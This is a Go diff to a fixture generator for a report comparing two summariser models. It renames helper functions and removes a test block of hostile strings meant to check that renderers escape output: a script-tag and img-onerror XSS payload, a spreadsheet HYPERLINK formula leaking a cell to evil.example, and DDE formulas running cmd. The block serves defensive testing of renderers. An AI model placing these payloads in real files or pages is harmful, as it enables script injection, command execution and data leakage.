@@ -8,7 +8,6 @@ import (
 	"math"
 	"slices"
 	"sort"
-	"strconv"
 	"strings"
 	"time"
 
@@ -48,7 +47,7 @@ func Report() *report.Report {
 		Incumbent:  "summariser-v3",
 		Candidate:  "summariser-v4",
 	}
-	r.Items = sampleItems(r.Incumbent, r.Candidate)
+	r.Items = itemRows(r.Incumbent, r.Candidate)
 
 	gates := map[fixture.Class]float64{
 		fixture.Constraint: 0.95, fixture.Commitment: 0.90,
@@ -101,7 +100,7 @@ func Report() *report.Report {
 			for _, id := range convs {
 				cs = append(cs, *s.clusters[id])
 			}
-			sampleFill(s.sc, cs, row.MinShare, conf)
+			fillClass(s.sc, cs, row.MinShare, conf)
 		}
 		m, err := power.McNemar(t, conf)
 		if err != nil {
@@ -132,7 +131,7 @@ func Report() *report.Report {
 			c.New = append(c.New, it.ItemKey)
 		}
 	}
-	c.IncumbentGate, c.CandidateGate = sampleGateMax(c.Incumbent, c.Max), sampleGateMax(c.Candidate, c.Max)
+	c.IncumbentGate, c.CandidateGate = gateMax(c.Incumbent, c.Max), gateMax(c.Candidate, c.Max)
 	c.Change = report.Same
 	if c.Candidate > c.Incumbent {
 		c.Change = report.Worse
@@ -140,8 +139,8 @@ func Report() *report.Report {
 
 	r.Prompt = report.PromptRow{
 		MaxMean:       12000,
-		Incumbent:     samplePromptStats(report.PromptStats{Contexts: 96, Mean: 6407, Median: 6152, P95: 9830, Max: 11874}),
-		Candidate:     samplePromptStats(report.PromptStats{Contexts: 96, Mean: 4196, Median: 4021, P95: 6410, Max: 8930}),
+		Incumbent:     promptStatsFor(report.PromptStats{Contexts: 96, Mean: 6407, Median: 6152, P95: 9830, Max: 11874}),
+		Candidate:     promptStatsFor(report.PromptStats{Contexts: 96, Mean: 4196, Median: 4021, P95: 6410, Max: 8930}),
 		IncumbentGate: report.Pass, CandidateGate: report.Pass, Change: report.Better,
 	}
 
@@ -172,26 +171,26 @@ func Report() *report.Report {
 		"Gates unmet by both systems are a backlog, not a merge decision; prompt size is reported and gated only by its budget.",
 		retainedTolerance)
 
-	r.Replay = sampleReplay(conf)
+	r.Replay = replay(conf)
 	p, err := report.NewPaper(r, conf)
 	if err != nil {
 		panic(err)
 	}
 	r.Paper = p
-	r.Selection = sampleSelection()
-	r.Provenance = sampleProvenance()
+	r.Selection = selection()
+	r.Provenance = provenance()
 	r.Warnings = []string{
 		"items of one conversation are correlated: read the cluster-robust intervals beside the Wilson ones (design effects on the Summary)",
 	}
 	return r
 }
 
-// samplePromptStats returns want with Sizes: want.Contexts sizes (an
+// promptStatsFor returns want with Sizes: want.Contexts sizes (an
 // even number) whose mean, median, 95th percentile and largest are
 // want's (whole numbers), as report.NewPromptStats computes them. The sizes rise
 // steadily from a smallest one chosen to meet the mean, through the
 // median and the 95th percentile, to the largest.
-func samplePromptStats(want report.PromptStats) report.PromptStats {
+func promptStatsFor(want report.PromptStats) report.PromptStats {
 	n, median, p95, top := want.Contexts, int(want.Median), int(want.P95), want.Max
 	total := int(math.Round(want.Mean * float64(n)))
 	m := n / 2                               // sizes m-1 and m are the median
@@ -229,14 +228,14 @@ func samplePromptStats(want report.PromptStats) report.PromptStats {
 	}
 	got := report.NewPromptStats(s)
 	if got.Contexts != n || got.Mean != want.Mean || got.Median != want.Median || got.P95 != want.P95 || got.Max != want.Max {
-		panic(fmt.Sprintf("samplePromptStats: made %+v, want %+v", got, want))
+		panic(fmt.Sprintf("promptStatsFor: made %+v, want %+v", got, want))
 	}
 	return got
 }
 
-// sampleFill computes a system's class result from its per-conversation
+// fillClass computes a system's class result from its per-conversation
 // clusters.
-func sampleFill(sc *report.SystemClass, cs []stats.Cluster, gate, conf float64) {
+func fillClass(sc *report.SystemClass, cs []stats.Cluster, gate, conf float64) {
 	sc.Share = math.NaN()
 	sc.Wilson = stats.Interval{Method: string(stats.Wilson), Lower: math.NaN(), Upper: math.NaN()}
 	sc.Robust = stats.Interval{Method: "cluster-robust", Lower: math.NaN(), Upper: math.NaN()}
@@ -266,29 +265,29 @@ func sampleFill(sc *report.SystemClass, cs []stats.Cluster, gate, conf float64) 
 	}
 }
 
-func sampleGateMax(n, limit int) report.GateStatus {
+func gateMax(n, limit int) report.GateStatus {
 	if n <= limit {
 		return report.Pass
 	}
 	return report.Fail
 }
 
-// samplePlan says, for one class, how many item-compactions carry each
+// itemPlan says, for one class, how many item-compactions carry each
 // pair of verdicts (incumbent, candidate).
-type samplePlan struct {
+type itemPlan struct {
 	class fixture.Class
-	pairs []samplePair
+	pairs []verdictPair
 }
 
-type samplePair struct {
+type verdictPair struct {
 	inc, cand fixture.Verdict
 	n         int
 }
 
-// sampleItems generates the item rows: per class, the verdict pairs of
+// itemRows generates the item rows: per class, the verdict pairs of
 // the plan, spread over 40 conversations and their compactions, in
 // fixture order (conversation, compaction, item).
-func sampleItems(incumbent, candidate string) []report.ItemRow {
+func itemRows(incumbent, candidate string) []report.ItemRow {
 	const (
 		V = fixture.Verbatim
 		S = fixture.Supported
@@ -296,21 +295,21 @@ func sampleItems(incumbent, candidate string) []report.ItemRow {
 		C = fixture.Contradicted
 	)
 	// Retained by both: a mix of verbatim and supported, some differing.
-	both := func(n int) []samplePair {
-		return []samplePair{{V, V, n - n/3}, {S, S, n/3 - n/10}, {V, S, n / 20}, {S, V, n/10 - n/20}}
+	both := func(n int) []verdictPair {
+		return []verdictPair{{V, V, n - n/3}, {S, S, n/3 - n/10}, {V, S, n / 20}, {S, V, n/10 - n/20}}
 	}
-	plans := []samplePlan{
+	plans := []itemPlan{
 		// 80: 68 both, 3 lost, 2 gained, 7 neither (1 contradicted by both).
-		{fixture.Constraint, append(both(68), samplePair{S, A, 3}, samplePair{A, S, 2}, samplePair{C, C, 1}, samplePair{A, A, 6})},
+		{fixture.Constraint, append(both(68), verdictPair{S, A, 3}, verdictPair{A, S, 2}, verdictPair{C, C, 1}, verdictPair{A, A, 6})},
 		// 51: 42 both, 2 lost (1 now contradicted), 1 gained, 6 neither.
-		{fixture.Commitment, append(both(42), samplePair{V, C, 1}, samplePair{S, A, 1}, samplePair{A, S, 1}, samplePair{A, A, 6})},
+		{fixture.Commitment, append(both(42), verdictPair{V, C, 1}, verdictPair{S, A, 1}, verdictPair{A, S, 1}, verdictPair{A, A, 6})},
 		// 103: 87 both, 9 lost (3 now contradicted), 1 gained, 6 neither.
-		{fixture.OpenQuestion, append(both(87), samplePair{S, C, 3}, samplePair{S, A, 6}, samplePair{A, S, 1},
-			samplePair{C, A, 1}, samplePair{A, C, 1}, samplePair{A, A, 4})},
+		{fixture.OpenQuestion, append(both(87), verdictPair{S, C, 3}, verdictPair{S, A, 6}, verdictPair{A, S, 1},
+			verdictPair{C, A, 1}, verdictPair{A, C, 1}, verdictPair{A, A, 4})},
 		// 61: 56 both, 2 lost (1 now contradicted), 1 gained, 2 neither.
-		{fixture.Reference, append(both(56), samplePair{V, C, 1}, samplePair{V, A, 1}, samplePair{A, S, 1}, samplePair{A, A, 2})},
+		{fixture.Reference, append(both(56), verdictPair{V, C, 1}, verdictPair{V, A, 1}, verdictPair{A, S, 1}, verdictPair{A, A, 2})},
 	}
-	convs := sampleConversations(40)
+	convs := conversationIDs(40)
 	var items []report.ItemRow
 	k := 0
 	for _, p := range plans {
@@ -322,9 +321,9 @@ func sampleItems(incumbent, candidate string) []report.ItemRow {
 					ItemKey: report.ItemKey{ConversationID: convs[conv], Compaction: 1 + (k/len(convs))%3},
 					Class:   p.class,
 				}
-				it.Literal, it.Probe, it.Expect = sampleText(p.class, i)
-				it.Incumbent = sampleRecord(incumbent, it, pair.inc, i)
-				it.Candidate = sampleRecord(candidate, it, pair.cand, i+1)
+				it.Literal, it.Probe, it.Expect = itemText(p.class, i)
+				it.Incumbent = record(incumbent, it, pair.inc, i)
+				it.Candidate = record(candidate, it, pair.cand, i+1)
 				it.Changed = pair.inc != pair.cand
 				items = append(items, it)
 				i++
@@ -347,7 +346,7 @@ func sampleItems(incumbent, candidate string) []report.ItemRow {
 	return items
 }
 
-func sampleConversations(n int) []string {
+func conversationIDs(n int) []string {
 	ids := make([]string, n)
 	for i := range ids {
 		day := time.Date(2026, 1, 6, 0, 0, 0, 0, time.UTC).AddDate(0, 0, i*2+i%3)
@@ -356,9 +355,9 @@ func sampleConversations(n int) []string {
 	return ids
 }
 
-// sampleText returns the i-th literal, probe and expected answer of a
+// itemText returns the i-th literal, probe and expected answer of a
 // class, in the source text's style.
-func sampleText(cl fixture.Class, i int) (literal, probe, expect string) {
+func itemText(cl fixture.Class, i int) (literal, probe, expect string) {
 	switch cl {
 	case fixture.Constraint:
 		dir := []string{"/migrations", "/vendor", "infra/terraform", "/etc/nginx", "db/seeds"}[i%5]
@@ -378,8 +377,8 @@ func sampleText(cl fixture.Class, i int) (literal, probe, expect string) {
 	}
 }
 
-// sampleRecord is one system's verdict record for an item.
-func sampleRecord(system string, it report.ItemRow, v fixture.Verdict, i int) fixture.Record {
+// record is one system's verdict record for an item.
+func record(system string, it report.ItemRow, v fixture.Verdict, i int) fixture.Record {
 	rec := fixture.Record{
 		System: system, ConversationID: it.ConversationID, Compaction: it.Compaction,
 		Class: it.Class, Verdict: v,
@@ -406,9 +405,9 @@ func sampleRecord(system string, it report.ItemRow, v fixture.Verdict, i int) fi
 	return rec
 }
 
-// sampleReplay is the paired task-success analysis of the table 157, 9,
+// replay is the paired task-success analysis of the table 157, 9,
 // 11, 23 with its 20 discordant conversations, in the words Build uses.
-func sampleReplay(conf float64) *report.Replay {
+func replay(conf float64) *report.Replay {
 	res, err := power.McNemar(power.Table{A: 157, B: 9, C: 11, D: 23}, conf)
 	if err != nil {
 		panic(err)
@@ -423,7 +422,7 @@ func sampleReplay(conf float64) *report.Replay {
 	}
 	// The 9 lost, then the 11 gained; the last 3 lost and the last 2
 	// gained have an accepted trace as their reference.
-	ids := sampleConversations(60)[40:]
+	ids := conversationIDs(60)[40:]
 	for i, id := range ids {
 		p := report.ReplayPair{ConversationID: id, Reference: "success", Candidate: "failure", ReferenceKind: "uncompacted"}
 		if i >= res.Table.B {
@@ -440,7 +439,7 @@ func sampleReplay(conf float64) *report.Replay {
 	return rp
 }
 
-func sampleSelection() *report.Selection {
+func selection() *report.Selection {
 	s := &report.Selection{
 		Budget: 40, Seed: 1, Incidents: 102, IncidentsExceedBudget: true,
 		Selected: report.SelectionTotals{Sessions: 40, NeverCompact: 0, Compactions: 131, Decisions: 1148, Items: 412,
@@ -456,7 +455,7 @@ func sampleSelection() *report.Selection {
 		},
 		Warnings: []string{"incidents alone exceed the budget (102 incidents, budget 40): every selected session is an incident"},
 	}
-	for i, id := range sampleConversations(40) {
+	for i, id := range conversationIDs(40) {
 		s.Sessions = append(s.Sessions, report.SelectedSession{
 			SessionID: id, Turns: 420 - 7*i, Compactions: 9 - i/6, Items: 21 - i/3, Decisions: 74 - i,
 			Incident: true, Reason: "incident; most decisions",
@@ -469,7 +468,7 @@ func sampleSelection() *report.Selection {
 	return s
 }
 
-func sampleProvenance() report.Provenance {
+func provenance() report.Provenance {
 	sum := func(s string) string {
 		h := sha256.Sum256([]byte(s))
 		return hex.EncodeToString(h[:])
@@ -506,140 +505,4 @@ regression:
 			{Role: "replay", Path: "examples/quarterly/replay.jsonl", SHA256: sum("replay"), Bytes: 23_512},
 		},
 	}
-}
-
-// HostileStrings are strings a fixture or a judge could carry that a
-// renderer must show as text: markup, spreadsheet formulas (=, +, -, @),
-// DDE payloads, and tab- and CR-led text. Keys name them in test output.
-var HostileStrings = map[string]string{
-	"script":    `<script>alert("tally")</script>`,
-	"img":       `"><img src=x onerror=alert(1)>`,
-	"hyperlink": `=HYPERLINK("http://evil.example/?leak="&A1,"click me")`,
-	"dde":       `+cmd|' /C calc'!A0`,
-	"at":        `@SUM(1+1)*cmd|' /C calc'!A0`,
-	"minus":     `-2+3+cmd|' /C calc'!A0`,
-	"tab":       "\t=1+2 led by a tab",
-	"cr":        "\r=1+2 led by a carriage return",
-}
-
-// hostileLongLen is the length of the long line Hostile puts in an
-// answer: more than a spreadsheet cell holds (32,767 characters).
-const hostileLongLen = 40_000
-
-// HostileLong is that line, with markup in it.
-var HostileLong = strings.Repeat("a <very> long & line ", hostileLongLen/21+1)[:hostileLongLen]
-
-// Hostile is Report with hostile strings in item literals,
-// probes, expected answers and model answers, in the system names, title,
-// warnings, a session's reason, a replay conversation and the config
-// (with a line that would close the HTML's <pre> around it), and the
-// answer HostileLong. The items that carry them are lost by the
-// candidate, so that every renderer lists them.
-func Hostile() *report.Report {
-	r := Report()
-	h := HostileStrings
-	// Items whose key is lost by the candidate, so the hostile text is
-	// on the Lost and Contradicted sheet too.
-	lost := map[report.ItemKey]bool{}
-	for _, c := range r.Classes {
-		for _, k := range c.Lost {
-			lost[k] = true
-		}
-	}
-	var at []int
-	for i, it := range r.Items {
-		if lost[it.ItemKey] {
-			at = append(at, i)
-		}
-	}
-	for i := range r.Items {
-		if !lost[r.Items[i].ItemKey] {
-			at = append(at, i)
-		}
-	}
-	it := func(n int) *report.ItemRow { return &r.Items[at[n]] }
-	it(0).Literal = h["script"]
-	it(1).Literal = h["img"]
-	it(2).Candidate.Answer = h["hyperlink"]
-	it(3).Literal = h["dde"]
-	it(4).Candidate.Answer = h["at"]
-	it(5).Probe = h["tab"]
-	it(6).Expect = h["cr"]
-	it(7).Literal = h["minus"]
-	it(8).Incumbent.Answer = HostileLong
-	r.Items[at[len(lost)]].Literal = h["hyperlink"] // not lost: on Items only
-	r.Title = h["hyperlink"]
-	r.Incumbent = h["script"]
-	r.Candidate = h["dde"]
-	r.Warnings = append(r.Warnings, "judge said: "+h["img"], h["at"])
-	r.Selection.Sessions[0].Reason = h["hyperlink"]
-	r.Replay.Discordant[0].ConversationID = h["at"]
-	r.Provenance.Config += "# </code></pre>" + h["script"] + "\n" + h["hyperlink"] + "\n"
-	return r
-}
-
-// Minimal is the report of a first run on little data: no replay,
-// no selection, no item rows, no provenance and no timestamp; a class
-// without items (NaN shares), a judge error in the candidate's open
-// questions, three prompt sizes for the incumbent and none for the
-// candidate, and no gate on them.
-func Minimal() *report.Report {
-	r := Report()
-	r.Title, r.Period, r.Replay, r.Selection = "", "", nil, nil
-	r.Items, r.Warnings = nil, nil
-	r.Provenance = report.Provenance{}
-	r.Generated = time.Time{}
-	for i := range r.Classes {
-		r.Classes[i].Lost, r.Classes[i].Gained = nil, nil
-	}
-	ref := &r.Classes[3]
-	ref.Incumbent = report.SystemClass{Share: math.NaN(), Wilson: stats.Interval{Lower: math.NaN(), Upper: math.NaN()}, Gate: report.Incomplete}
-	ref.Candidate = ref.Incumbent
-	oq := &r.Classes[2].Candidate
-	oq.Counts.Absent--
-	oq.Counts.Errors++
-	oq.Gate = report.Incomplete
-	r.Contradictions.New = nil
-	r.Prompt = report.PromptRow{Incumbent: report.NewPromptStats([]int{131, 79, 90}), Candidate: report.NewPromptStats(nil)}
-	r.Decision = report.Decision{Rule: "no row got worse"}
-	return r
-}
-
-// Large is Report with n generated item rows, every tenth
-// lost by the candidate and every hundredth newly contradicted, for the
-// renderers' performance tests and benchmarks.
-func Large(n int) *report.Report {
-	r := Report()
-	items := make([]report.ItemRow, n)
-	for i := range r.Classes {
-		r.Classes[i].Lost, r.Classes[i].Gained = nil, nil
-	}
-	r.Contradictions.New = nil
-	for i := range items {
-		cl := fixture.Classes[i%len(fixture.Classes)]
-		it := report.ItemRow{
-			ItemKey: report.ItemKey{
-				ConversationID: fmt.Sprintf("sess_2026_%02d_%02d_%04x", 1+i/100000, 1+(i/4000)%28, (i/12)&0xffff),
-				Compaction:     1 + (i/4)%3,
-				ItemID:         "c" + strconv.Itoa(1+i%4),
-			},
-			Class: cl,
-		}
-		it.Literal, it.Probe, it.Expect = sampleText(cl, i)
-		inc, cand := fixture.Verbatim, fixture.Supported
-		switch {
-		case i%100 == 7:
-			cand = fixture.Contradicted
-			r.Contradictions.New = append(r.Contradictions.New, it.ItemKey)
-		case i%10 == 3:
-			cand = fixture.Absent
-			r.Classes[i%len(fixture.Classes)].Lost = append(r.Classes[i%len(fixture.Classes)].Lost, it.ItemKey)
-		}
-		it.Incumbent = sampleRecord(r.Incumbent, it, inc, i)
-		it.Candidate = sampleRecord(r.Candidate, it, cand, i)
-		it.Changed = true
-		items[i] = it
-	}
-	r.Items = items
-	return r
 }
